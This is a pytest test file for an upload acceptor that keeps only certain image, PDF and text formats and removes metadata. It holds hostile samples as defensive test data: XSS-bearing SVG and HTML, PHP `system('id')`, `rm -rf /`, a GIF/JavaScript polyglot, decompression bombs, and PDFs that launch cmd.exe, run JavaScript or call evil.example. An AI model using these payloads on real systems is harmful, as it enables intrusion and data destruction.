"""What is taken of a file, and what is refused: by content alone."""

from __future__ import annotations

import io
import time
from typing import Any

import pikepdf
import pytest
from pikepdf import Array, AttachedFileSpec, Dictionary, Name, Pdf, String
from PIL import Image

from activities.files.accept import accept
from activities.files.kinds import FileKind
from domain.errors import Invalid
from domain.policy.evidence import Evidence
from tests.files import made

LIMITS = Evidence()
NOT_AT_ALL = pikepdf.StreamDecodeLevel.none
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><body>hello</body></html>"


def attach(pdf: Pdf) -> None:
    pdf.attachments["x.exe"] = AttachedFileSpec(pdf, b"MZ", filename="x.exe")


def script_by_name(pdf: Pdf) -> None:
    action = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), action])))


def launch_on_click(pdf: Pdf) -> None:
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([0, 0, 9, 9]),
        A=Dictionary(S=Name.Launch, F=String("cmd.exe")),
    )
    pdf.pages[0].Annots = Array([pdf.make_indirect(link)])


def unreached_script(pdf: Pdf) -> None:
    pdf.make_indirect(Dictionary(S=Name.JavaScript))
    pdf.Root.Kept = pdf.make_indirect(Array([Dictionary(JS=String("app.alert(1)"))]))


def huge_picture(pdf: Pdf) -> None:
    about = {"Width": 60_000, "Height": 60_000, "ColorSpace": Name.DeviceGray, "BitsPerComponent": 1}
    pdf.Root.Kept = pdf.make_stream(b"\0", Type=Name.XObject, Subtype=Name.Image, Filter=Name.JBIG2Decode, **about)


def packed_twice(pdf: Pdf) -> None:
    pdf.pages[0].Contents = pdf.make_stream(b"x", Filter=Array([Name.FlateDecode, Name.FlateDecode]))


def elsewhere(pdf: Pdf) -> None:
    pdf.pages[0].Contents = pdf.make_stream(b"", F=String("/etc/passwd"))


def call() -> Dictionary:
    return Dictionary(S=Name.URI, URI=String("https://evil.example/opened"))


def within(**about: Any) -> Dictionary:
    return Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), **about)


def on_opening(pdf: Pdf) -> None:
    pdf.Root.OpenAction = pdf.make_indirect(call())


def on_a_page(pdf: Pdf) -> None:
    pdf.pages[0].AA = pdf.make_indirect(Dictionary(O=pdf.make_indirect(call())))


def on_closing(pdf: Pdf) -> None:
    pdf.Root.AA = Dictionary(WC=call())


def annotated(pdf: Pdf, **about: Any) -> None:
    note = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **about)
    pdf.pages[0].Annots = Array([pdf.make_indirect(note)])


def on_a_link_seen(pdf: Pdf) -> None:
    annotated(pdf, Subtype=Name.Link, AA=Dictionary(PV=call()))


def on_a_field(pdf: Pdf) -> None:
    field = Dictionary(FT=Name.Tx, T=String("a"), AA=Dictionary(F=call()))
    pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.make_indirect(field)]))


def on_a_stamp(pdf: Pdf) -> None:
    annotated(pdf, Subtype=Name.Stamp, A=call())


def after_a_jump(pdf: Pdf) -> None:
    pdf.Root.OpenAction = within(Next=Array([within(), call()]))


def prints_after_a_jump(pdf: Pdf) -> None:
    pdf.Root.OpenAction = within(Next=Dictionary(S=Name.Named, N=Name.Print))


def shown_from_elsewhere(pdf: Pdf) -> None:
    ref = pdf.make_indirect(Dictionary(F=String("https://evil.example/other.pdf"), Page=0))
    about = {"Subtype": Name.Form, "BBox": Array([0, 0, 9, 9]), "Ref": ref}
    form = pdf.make_stream(b"", Type=Name.XObject, **about)
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(P=form))


REFUSED = {
    "nothing": (b"", "is empty"),
    "an SVG picture": (SVG, "markup"),
    "an SVG picture with a comment first": (b"\xef\xbb\xbf  <!-- x -->" + SVG, "markup"),
    "an SVG picture under another name": (b'<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:script>', "markup"),
    "the end of one": (b"hello </so-me.x:SVG>", "markup"),
    "a web page": (HTML, "markup"),
    "a page in capitals": (b"hello <SCRIPT>alert(1)</SCRIPT>", "markup"),
    "a page by its attributes": (b"<img src=x onerror=alert(1)>", "markup"),
    "PHP": (b"<?php system('id');", "markup"),
    "a shell script": (b"#!/bin/sh\nrm -rf /\n", "a script"),
    "RTF": (b"{\\rtf1 hello}", "RTF"),
    "PostScript": (b"%!PS-Adobe-3.0\n", "PostScript"),
    "a Windows program": (b"MZ\x90\0\3\0\0\0" + bytes(64), "a program"),
    "a Linux program": (b"\x7fELF\2\1\1\0" + bytes(64), "a program"),
    "a ZIP archive": (made.archive(), "a ZIP archive"),
    "an empty ZIP archive": (b"PK\5\6" + bytes(18), "a ZIP archive"),
    "a Word document": (made.docx(), "an Office document"),
    "an old Word document": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(64), "an Office document"),
    "a GIF picture": (made.gif(), "a GIF"),
    "a GIF that is JavaScript": (b"GIF89a/*" + b" " * 20 + b"*/=1;alert(1)//", "a GIF"),
    "a HEIC picture": (b"\0\0\0\x18ftypheic" + bytes(64), "as JPEG"),
    "text with a bell": (b"hello \a", "control characters"),
    "text with an escape": (b"\x1b[2Jhello", "control characters"),
    "text that turns round": ("photo \u202egpj.exe".encode(), "control characters"),
    "text in UTF-16": ("hello".encode("utf-16"), "UTF-8"),
    "text in Latin-1": ("schön".encode("latin-1"), "UTF-8"),
    "blanks": (b" \n\t ", "not of a kind"),
    "a JPEG cut short": (made.jpeg(width=400, height=400)[:-900], "damaged"),
    "a JPEG of three bytes": (b"\xff\xd8\xff", "damaged"),
    "a PNG cut short": (made.png(width=400, height=400)[:-200], "damaged"),
    "a WebP of twelve bytes": (b"RIFF\4\0\0\0WEBP", "damaged"),
    "a PNG of 900 million pixels": (made.png_bomb(), "50 million pixels"),
    "a PNG of 60 million pixels": (made.png_bomb(10_000, 6_000), "50 million pixels"),
    "a PNG that is all length": (made.png_bomb(30_000, 10), "20000 pixels"),
    "a PDF that begins late": (b"\n" + made.pdf(), "damaged PDF|not of a kind"),
    "a PDF cut short": (made.pdf()[:-60], "damaged"),
    "a PDF of five bytes": (b"%PDF-", "damaged"),
    "a PDF with a ZIP archive behind": (made.pdf() + made.archive(), "ZIP archive at once"),
    "a PDF with a page before": (b"%PDF-1.7 <html><script>alert(1)</script>\n" + made.pdf(), "at once|damaged"),
    "a PDF of 51 pages": (made.pdf(pages=51), "51 pages"),
    "a PDF with a password": (made.pdf(encryption=pikepdf.Encryption(owner="a", user="b")), "password"),
    "a PDF that is protected": (made.pdf(encryption=pikepdf.Encryption(owner="a", user="")), "protected"),
    "a PDF with a script": (made.with_action(S=Name.JavaScript, JS="app.alert(1)"), "a program"),
    "a PDF with a named script": (made.pdf(change=script_by_name), "a program"),
    "a PDF with a script on no page": (made.pdf(change=unreached_script), "a program"),
    "a PDF that starts a program": (made.with_action(S=Name.Launch, F="cmd.exe"), "does something"),
    "a PDF that starts one on a click": (made.pdf(change=launch_on_click), "does something"),
    "a PDF that sends a form": (made.with_action(S=Name.SubmitForm, F="https://evil.example"), "does something"),
    "a PDF that calls home when it is opened": (
        made.with_action(S=Name.URI, URI="https://evil.example"),
        "does something",
    ),
    "a PDF that calls home by another object": (made.pdf(change=on_opening), "does something"),
    "a PDF whose page calls home": (made.pdf(change=on_a_page), "does something"),
    "a PDF that calls home when it is closed": (made.pdf(change=on_closing), "does something"),
    "a PDF whose link calls home when it is seen": (made.pdf(change=on_a_link_seen), "does something"),
    "a PDF whose field calls home": (made.pdf(change=on_a_field), "does something"),
    "a PDF whose stamp calls home": (made.pdf(change=on_a_stamp), "does something"),
    "a PDF that calls home after a jump": (made.pdf(change=after_a_jump), "does something"),
    "a PDF that prints when it is opened": (made.with_action(S=Name.Named, N=Name.Print), "does something"),
    "a PDF that prints after a jump": (made.pdf(change=prints_after_a_jump), "does something"),
    "a PDF that shows a page of another file": (made.pdf(change=shown_from_elsewhere), "stand in another file"),
    "a PDF with a program inside": (made.pdf(change=attach), "another file"),
    "a PDF whose page is another file": (made.pdf(change=elsewhere), "another file"),
    "a PDF with a huge picture": (made.pdf(change=huge_picture), "50 million pixels"),
    "a PDF packed twice": (
        made.pdf(change=packed_twice, compress_streams=False, stream_decode_level=NOT_AT_ALL),
        "more than once",
    ),
    "11 MB": (b"x" * 11_000_000, "larger than 10 million bytes"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_what_is_not_allowed_is_refused_with_what_is(name: str) -> None:
    content, words = REFUSED[name]
    with pytest.raises(Invalid, match=words) as caught:
        accept(content, LIMITS)
    assert caught.value.field == "file"
    assert "allowed are JPEG, PNG and WebP pictures, PDF documents and plain text in UTF-8" in caught.value.rule


def test_a_pdf_that_unpacks_to_gigabytes_is_counted_and_not_held() -> None:
    bomb = made.pdf_bomb()
    assert len(bomb) < LIMITS.bytes
    began = time.monotonic()
    with pytest.raises(Invalid, match="unpacks to more than 200 million bytes"):
        accept(bomb, LIMITS)
    assert time.monotonic() - began < 20


@pytest.mark.parametrize("content", [made.jpeg(), made.webp()], ids=["JPEG", "WebP"])
def test_a_picture_without_transparency_is_kept_as_a_jpeg(content: bytes) -> None:
    kind, stored = accept(content, LIMITS)
    assert kind is FileKind.JPEG
    shown = Image.open(io.BytesIO(stored))
    assert (shown.format, shown.size, shown.mode) == ("JPEG", (40, 20), "RGB")


@pytest.mark.parametrize(
    ("content", "mode"),
    [
        (made.png(), "RGB"),
        (made.png(mode="RGBA"), "RGBA"),
        (made.png(mode="P"), "RGB"),
        (made.png(mode="1"), "L"),
        (made.png(mode="I;16"), "L"),
        (made.png(profile=True), "RGB"),
        (made.webp(mode="RGBA", frames=2), "RGBA"),
    ],
)
def test_a_png_or_a_transparent_picture_is_kept_as_a_png_of_one_frame(content: bytes, mode: str) -> None:
    kind, stored = accept(content, LIMITS)
    assert kind is FileKind.PNG
    shown = Image.open(io.BytesIO(stored))
    assert (shown.format, shown.size, shown.mode, getattr(shown, "n_frames", 1)) == ("PNG", (40, 20), mode, 1)
    assert not shown.info


def test_place_camera_and_comments_do_not_outlive_the_pixels() -> None:
    told = made.jpeg(secrets=True, orientation=1)
    for words in (made.PLACE.encode(), b"CanaryCam", b"Exif"):
        assert words in told
    _, stored = accept(told, LIMITS)
    shown = Image.open(io.BytesIO(stored))
    assert not shown.getexif()
    assert shown.info.keys() <= {"jfif", "jfif_version", "jfif_unit", "jfif_density"}
    for words in (made.PLACE.encode(), b"CanaryCam", b"Exif", b"xmp", b"ICC_PROFILE"):
        assert words not in stored


@pytest.mark.parametrize(("orientation", "size", "left_top"), [(1, (40, 20), "red"), (3, (40, 20), "blue"), (6, (20, 40), "red"), (8, (20, 40), "blue")])  # fmt: skip  # noqa: E501
def test_a_picture_is_stored_upright(orientation: int, size: tuple[int, int], left_top: str) -> None:
    _, stored = accept(made.jpeg(orientation=orientation), LIMITS)
    shown = Image.open(io.BytesIO(stored))
    assert shown.size == size
    pixel = shown.convert("RGB").getpixel((2, 2))
    assert isinstance(pixel, tuple)
    assert (pixel[0] > pixel[2]) is (left_top == "red")


@pytest.mark.parametrize("behind", [HTML, made.archive(), b"<?php system('id');", b"MZ" + bytes(64)])
def test_what_stands_behind_a_picture_is_gone(behind: bytes) -> None:
    for content in (made.jpeg(), made.png()):
        _, stored = accept(content + behind, LIMITS)
        assert behind not in stored
        assert b"evil" not in stored


def test_a_pdf_loses_what_tells_of_people_and_what_was_there_before() -> None:
    def secrets(pdf: Pdf) -> None:
        pdf.docinfo[Name.Author] = made.PLACE
        with pdf.open_metadata() as meta:
            meta["dc:creator"] = [made.PLACE]
        photo = made.jpeg(secrets=True)
        about = {"Width": 40, "Height": 20, "ColorSpace": Name.DeviceRGB, "BitsPerComponent": 8}
        stream = pdf.make_stream(photo, Type=Name.XObject, Subtype=Name.Image, Filter=Name.DCTDecode, **about)
        pdf.pages[0].Resources = Dictionary(XObject=Dictionary(P=stream))

    told = made.pdf(change=secrets) + b"% Vogelweg 12, once more\n"
    assert made.PLACE.encode() in told
    kind, stored = accept(told, LIMITS)
    assert (kind, stored[:5]) == (FileKind.PDF, b"%PDF-")
    assert b"Vogelweg" not in stored
    with pikepdf.open(io.BytesIO(stored)) as pdf:
        assert len(pdf.pages) == 1
        assert Name.Metadata not in pdf.Root
        assert not list(pdf.docinfo.keys())
        photo = pdf.pages[0].Resources.XObject.P
        assert Image.open(io.BytesIO(photo.read_raw_bytes())).size == (40, 20)
        assert b"CanaryCam" not in photo.read_raw_bytes()
        assert b"Page 1" in pdf.pages[0].Contents.read_bytes()


def test_a_pdf_whose_dictionaries_look_like_tags_is_taken() -> None:
    def roles(pdf: Pdf) -> None:
        pdf.Root.StructTreeRoot = Dictionary(RoleMap=Dictionary(Form=Name.Form, Head=Name.P, Link=Name.Link))

    kind, _ = accept(made.pdf(change=roles), LIMITS)
    assert kind is FileKind.PDF


def test_a_pdf_with_links_to_click_and_jumps_within_is_taken() -> None:
    def links(pdf: Pdf) -> None:
        pdf.Root.OpenAction = pdf.make_indirect(within())
        pdf.pages[0].AA = Dictionary(O=within())
        annotated(pdf, Subtype=Name.Link, A=pdf.make_indirect(call()))
        pdf.Root.Outlines = Dictionary(First=pdf.make_indirect(Dictionary(Title=String("a"), A=within())))

    kind, _ = accept(made.pdf(change=links), LIMITS)
    assert kind is FileKind.PDF
    place = made.pdf(change=lambda pdf: setattr(pdf.Root, "OpenAction", Array([pdf.pages[0].obj, Name.Fit])))
    assert accept(place, LIMITS)[0] is FileKind.PDF


def test_a_pdf_whose_resources_bear_the_names_of_triggers_is_taken() -> None:
    def named(pdf: Pdf) -> None:
        font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
        pdf.pages[0].Resources = Dictionary(Font=Dictionary(AA=font, Next=font, A=font))

    assert accept(made.pdf(change=named), LIMITS)[0] is FileKind.PDF


@pytest.mark.parametrize(
    ("given", "stored"),
    [
        (b"plain\r\n\ttext", b"plain\r\n\ttext"),
        ("\ufeffwith a mark".encode(), b"with a mark"),
        ("Grüße, 你好, שלום".encode(), "Grüße, 你好, שלום".encode()),
        (b"From: Ann <ann@example.org>\n5 < 6 > 4", b"From: Ann <ann@example.org>\n5 < 6 > 4"),
        (b"MZ is how this begins", b"MZ is how this begins"),
    ],
)
def test_plain_text_is_kept_as_it_is(given: bytes, stored: bytes) -> None:
    assert accept(given, LIMITS) == (FileKind.TEXT, stored)


def test_the_limits_are_those_that_are_given() -> None:
    small = Evidence(largest=1, most_pixels=1, most_pages=1)
    for content, words in (
        (b"x" * 1_000_001, "larger than 1 million bytes"),
        (made.png(width=1001, height=1000, mode="1"), "1 million pixels"),
        (made.pdf(pages=2), "2 pages"),
    ):
        with pytest.raises(Invalid, match=words):
            accept(content, small)
        accept(content, LIMITS)
